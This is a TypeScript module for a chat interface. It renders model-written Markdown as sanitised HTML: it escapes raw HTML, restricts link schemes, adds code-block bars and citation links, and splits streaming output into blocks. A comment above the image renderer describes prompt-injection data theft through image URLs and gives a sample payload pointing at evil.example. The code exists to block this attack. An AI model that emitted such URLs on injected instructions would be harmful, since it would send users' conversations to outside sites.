import hljs from "highlight.js/lib/core";
import bash from "highlight.js/lib/languages/bash";
import c from "highlight.js/lib/languages/c";
import cpp from "highlight.js/lib/languages/cpp";
import csharp from "highlight.js/lib/languages/csharp";
import css from "highlight.js/lib/languages/css";
import diff from "highlight.js/lib/languages/diff";
import go from "highlight.js/lib/languages/go";
import java from "highlight.js/lib/languages/java";
import javascript from "highlight.js/lib/languages/javascript";
import json from "highlight.js/lib/languages/json";
import kotlin from "highlight.js/lib/languages/kotlin";
import markdown from "highlight.js/lib/languages/markdown";
import php from "highlight.js/lib/languages/php";
import python from "highlight.js/lib/languages/python";
import ruby from "highlight.js/lib/languages/ruby";
import rust from "highlight.js/lib/languages/rust";
import sql from "highlight.js/lib/languages/sql";
import swift from "highlight.js/lib/languages/swift";
import typescript from "highlight.js/lib/languages/typescript";
import xml from "highlight.js/lib/languages/xml";
import yaml from "highlight.js/lib/languages/yaml";
import MarkdownIt from "markdown-it";
import { math } from "./math.ts";

const languages = {
  bash,
  c,
  cpp,
  csharp,
  css,
  diff,
  go,
  java,
  javascript,
  json,
  kotlin,
  markdown,
  php,
  python,
  ruby,
  rust,
  sql,
  swift,
  typescript,
  xml,
  yaml,
};
for (const [name, language] of Object.entries(languages)) hljs.registerLanguage(name, language);
hljs.registerAliases(["sh", "shell", "zsh", "console"], { languageName: "bash" });
hljs.registerAliases(["html", "svg"], { languageName: "xml" });
hljs.registerAliases(["js", "jsx", "mjs"], { languageName: "javascript" });
hljs.registerAliases(["ts", "tsx"], { languageName: "typescript" });
hljs.registerAliases(["py"], { languageName: "python" });
hljs.registerAliases(["yml"], { languageName: "yaml" });
hljs.registerAliases(["rs"], { languageName: "rust" });
hljs.registerAliases(["cs"], { languageName: "csharp" });

// html: false makes markdown-it escape every tag the model writes. Nothing here may relax that.
const md = new MarkdownIt({
  html: false,
  linkify: true,
  breaks: false,
  highlight(code, lang) {
    const language = fenceLanguage(lang);
    return language ? highlightCode(code, language).html : ""; // "": markdown-it escapes the code itself
  },
});

/** The language a fence's info string names, when it is one highlight.js knows. */
export function fenceLanguage(info: string): string | undefined {
  const language = info.trim().split(/\s+/)[0]?.toLowerCase() ?? "";
  return language && hljs.getLanguage(language) ? language : undefined;
}

/**
 * Code as highlighted HTML (escaped; only escaped without a language), and whether highlight.js
 * ended it back at the language's root, inside no comment, string or other construct: code after
 * it then highlights the same alone.
 */
export function highlightCode(code: string, language: string | undefined): { html: string; atRoot: boolean } {
  if (!language || !code) return { html: md.utils.escapeHtml(code), atRoot: true };
  const result = hljs.highlight(code, { language, ignoreIllegals: true });
  // _top is highlight.js's mode stack when it stopped (not in its types; without it, never at root).
  return { html: result.value, atRoot: (result as { _top?: unknown })._top === hljs.getLanguage(language) };
}

md.use(math);

// A code block gets a bar above it: the language it is in, and a Copy button (static/app.js copies;
// without scripts the button is hidden by app.css). The bar goes before the <pre>, which stays the
// block's last child: streamed code is appended to the innermost last element (see tailGrowth).
// Indented code (code_block) gets one too, without a language: it is code all the same.
type RenderRule = NonNullable<typeof md.renderer.rules.fence>;
for (const rule of ["fence", "code_block"] as const) {
  const plain: RenderRule = md.renderer.rules[rule]!;
  md.renderer.rules[rule] = (...args: Parameters<RenderRule>) => {
    const [tokens, idx] = args;
    const language = rule === "fence" ? (tokens[idx]!.info.trim().split(/\s+/)[0] ?? "") : "";
    const label = language ? `<span class="code-language">${md.utils.escapeHtml(language)}</span>` : "<span></span>";
    const copy = '<button type="button" class="copy-code" data-copy-code aria-live="polite">Copy code</button>';
    return `<div class="code-block"><div class="code-bar">${label}${copy}</div>${plain(...args)}</div>\n`;
  };
}

// Links may go to web pages, mail addresses and places on this site; nothing else (no
// javascript:, data:, file:, or any scheme a browser might hand to another program).
const SAFE_LINK = /^(https?:\/\/|mailto:|\/(?!\/)|#)/i;
md.validateLink = (url) => SAFE_LINK.test(url.trim()) || !/^[a-z][a-z0-9+.-]*:|^\/\//i.test(url.trim());

// Images the model names are not fetched: an image URL is a way to send the conversation to
// another site (a prompt-injected "![](https://evil.example/?q=secret)"). It shows as a link.
md.renderer.rules.image = (tokens, idx) => {
  const token = tokens[idx]!;
  const src = String(token.attrGet("src") ?? "");
  const alt = md.utils.escapeHtml(token.content || "image");
  if (!SAFE_LINK.test(src)) return `[${alt}]`;
  return `<a href="${md.utils.escapeHtml(src)}" target="_blank" rel="noopener noreferrer nofollow">🖼 ${alt}</a>`;
};

/**
 * What a render knows of the answer's web sources: their URLs in order (citation 1 first), and
 * the message's id, which names the Sources list's entries (see views/components/sources.tsx).
 */
export type Citing = { urls: string[]; messageId: string };
type Env = { citing?: Citing; openLinks?: (number | undefined)[] };

/** A URL as compared with a source's: no fragment, no trailing slash. */
const comparable = (url: string) => {
  try {
    const u = new URL(url);
    u.hash = "";
    return u.href.replace(/\/$/, "");
  } catch {
    return url;
  }
};

/** The citation mark for source `n` (1-based): a link to its entry in the answer's Sources list. */
const citation = (citing: Citing, n: number) =>
  `<sup class="citation"><a href="#src-${citing.messageId}-${n}" aria-label="Source ${n}">${n}</a></sup>`;

// Links the model writes open in a new tab and cannot reach back into this one. A link to one of
// the answer's web sources is followed by that source's number.
const defaultLinkOpen: RenderRule =
  md.renderer.rules.link_open ?? ((tokens, idx, options, _env, self) => self.renderToken(tokens, idx, options));
md.renderer.rules.link_open = (...[tokens, idx, options, env, self]: Parameters<RenderRule>) => {
  const token = tokens[idx]!;
  token.attrSet("target", "_blank");
  token.attrSet("rel", "noopener noreferrer nofollow");
  const { citing } = env as Env;
  if (citing) {
    const href = comparable(String(token.attrGet("href") ?? ""));
    const n = citing.urls.findIndex((url) => comparable(url) === href) + 1;
    const e = env as Env;
    e.openLinks ??= [];
    e.openLinks.push(n || undefined);
  }
  return defaultLinkOpen(tokens, idx, options, env, self);
};
const defaultLinkClose: RenderRule =
  md.renderer.rules.link_close ?? ((tokens, idx, options, _env, self) => self.renderToken(tokens, idx, options));
md.renderer.rules.link_close = (...[tokens, idx, options, env, self]: Parameters<RenderRule>) => {
  const closed = defaultLinkClose(tokens, idx, options, env, self);
  const { citing, openLinks } = env as Env;
  const n = openLinks?.pop();
  return citing && n ? closed + citation(citing, n) : closed;
};

// "[2]" in an answer with sources (how some search models cite) is a citation of source 2. Only
// in plain text: code and links are other tokens.
const defaultText: RenderRule = md.renderer.rules.text!;
md.renderer.rules.text = (...[tokens, idx, options, env, self]: Parameters<RenderRule>) => {
  const escaped = defaultText(tokens, idx, options, env, self);
  const { citing } = env as Env;
  if (!citing) return escaped;
  return escaped.replace(/\[(\d{1,2})\]/g, (whole, digits: string) => {
    const n = Number(digits);
    return n >= 1 && n <= citing.urls.length ? citation(citing, n) : whole;
  });
};

// A code block scrolls sideways when its lines are long: focusable, it scrolls by keyboard too.
for (const rule of ["fence", "code_block"] as const) {
  const plain: RenderRule = md.renderer.rules[rule]!;
  // The first <pre> is the block's own (a fence's sits under its bar); the code inside is escaped.
  md.renderer.rules[rule] = (...args: Parameters<RenderRule>) => plain(...args).replace(/<pre\b/, '<pre tabindex="0"');
}

/**
 * Markdown to safe HTML: model-written HTML is shown as text, unsafe links are dropped. With
 * `citing`, the answer's web sources are marked where it cites them.
 */
export function renderMarkdown(text: string, citing?: Citing): string {
  return md.render(text, citing?.urls.length ? { citing } : {});
}

/** A line that opens or closes a code fence; the marker is its first group. */
export const FENCE = /^ {0,3}(`{3,}|~{3,})/;
const LIST_ITEM = /^ {0,3}([-*+]|\d{1,9}[.)])\s/;

/**
 * Splits Markdown into top-level blocks that render the same alone as together, so a streamed
 * answer renders each finished block once. Splits at blank lines outside fences, but not where
 * the next line is indented (a continued list item or code) or continues a list; and after the
 * closing line of a block that is a code fence. Returns the blocks that are certainly finished
 * and the open rest.
 */
export function splitFinishedBlocks(text: string): { finished: string[]; rest: string } {
  const lines = text.split("\n");
  const finished: string[] = [];
  let start = 0;
  /** The open fence's marker, and whether the block is that fence alone (nothing but blank lines before it). */
  let fence: { marker: string; alone: boolean } | undefined;
  let blockHasList = false;
  // The last line may still be growing: only complete lines are read, and a block ends at a
  // blank line once the line after it has begun (see below).
  for (let i = 0; i < lines.length - 1; i++) {
    const line = lines[i]!;
    const marker = FENCE.exec(line)?.[1];
    if (fence) {
      if (!marker || marker[0] !== fence.marker[0] || marker.length < fence.marker.length || line.trim() !== marker)
        continue;
      // A block that is a code fence ends with it: whatever follows starts a new block. Kept
      // open, it would be rendered (and its code highlighted) again with every word after it.
      if (fence.alone) {
        finished.push(lines.slice(start, i + 1).join("\n"));
        start = i + 1;
        blockHasList = false;
      }
      fence = undefined;
      continue;
    }
    if (marker) {
      fence = { marker, alone: lines.slice(start, i).every((l) => l.trim() === "") };
      continue;
    }
    if (LIST_ITEM.test(line)) blockHasList = true;
    if (line.trim() !== "" || i === start) continue;
    const next = lines[i + 1]!;
    // The line after may still be growing; its first character is enough unless the block has a
    // list, which it may go on ("2" may become "2. item", and the whole list render otherwise).
    // Waiting for that line to end kept the block in the open tail, rendered again with each of
    // its words: models write a paragraph as one line.
    if (i + 1 === lines.length - 1 && (blockHasList || next === "")) continue;
    if (next.trim() === "") continue; // more blank lines: split at the last one
    if (/^\s/.test(next)) continue;
    if (blockHasList && LIST_ITEM.test(next)) continue;
    finished.push(lines.slice(start, i + 1).join("\n"));
    start = i + 1;
    blockHasList = false;
  }
  return { finished, rest: lines.slice(start).join("\n") };
}

const TAG_NAME = /^[a-z][a-z0-9]*$/;

/**
 * Where the run of closing tags that ends `html` (with the whitespace between and after them)
 * begins, and how many tags it holds. Scanned from the end: a regex anchored with `$` would try
 * every position of a long tail, every frame.
 */
function closingRun(html: string): { start: number; depth: number } {
  let start = html.length;
  let depth = 0;
  let i = html.length - 1;
  for (;;) {
    while (i >= 0 && (html[i] === "\n" || html[i] === " ")) i--;
    if (i < 0 || html[i] !== ">") break;
    const lt = html.lastIndexOf("<", i);
    if (lt < 0 || html[lt + 1] !== "/" || !TAG_NAME.test(html.slice(lt + 2, i))) break;
    depth++;
    start = lt;
    i = lt - 1;
  }
  return { start, depth };
}

/**
 * How a re-rendered open tail grew, when it grew at its end only: `append` goes at the end of the
 * innermost element still open at the end of `prev`, `depth` elements down (the last child at each
 * level). Most frames of a long paragraph, list item or code block are like this, and sending only
 * what was added keeps each frame small instead of re-sending the whole paragraph or block every
 * time. What was added may hold whole inline elements (highlighted code's spans, emphasis, inline
 * code; see INLINE). Undefined when the change is anything else (a new block, code highlighted
 * again, emphasis that closed): then the whole tail is sent.
 */
export function tailGrowth(prev: string, next: string): { append: string; depth: number } | undefined {
  const { start, depth } = closingRun(prev);
  if (!depth || next.length <= prev.length) return undefined;
  const closing = prev.slice(start);
  if (!next.endsWith(closing) || !next.startsWith(prev.slice(0, start))) return undefined;
  const added = next.slice(start, next.length - closing.length);
  // The renderer escapes every < and & of the text, so the tags found are all the markup there is,
  // and what came before ends with a tag or a complete character (no entity left open).
  return wholeInline(added) ? { append: added, depth } : undefined;
}

/**
 * Elements an appended piece may hold: the browser parses it inside the `<div>` htmx swaps it from,
 * and these parse there as they do where they land (a table row, say, would be dropped). Only as
 * the renderer writes them: highlight.js's spans with their class, Markdown's inline formatting.
 */
const INLINE = /^<(?:(span|strong|em|code|del|s)(?: class="[\w -]*")?|\/(span|strong|em|code|del|s))>$/;

/** Whether `html` is text and INLINE elements, each closed within it. */
function wholeInline(html: string): boolean {
  const open: string[] = [];
  for (const [tag] of html.matchAll(/<[^>]*>?/g)) {
    if (tag === "<br>") continue;
    const m = INLINE.exec(tag);
    if (!m) return false;
    if (m[1]) open.push(m[1]);
    else if (open.pop() !== m[2]) return false;
  }
  return open.length === 0;
}
